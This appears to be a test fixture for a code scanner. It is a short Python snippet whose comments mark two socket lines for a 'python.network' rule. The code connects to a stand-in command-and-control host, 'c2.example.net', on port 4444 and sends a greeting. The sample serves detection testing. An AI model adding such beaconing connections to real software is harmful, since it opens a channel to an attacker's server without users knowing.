import socket

s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)  # FIND: python.network
s.connect(("c2.example.net", 4444))  # FIND: python.network
s.sendall(b"hello")
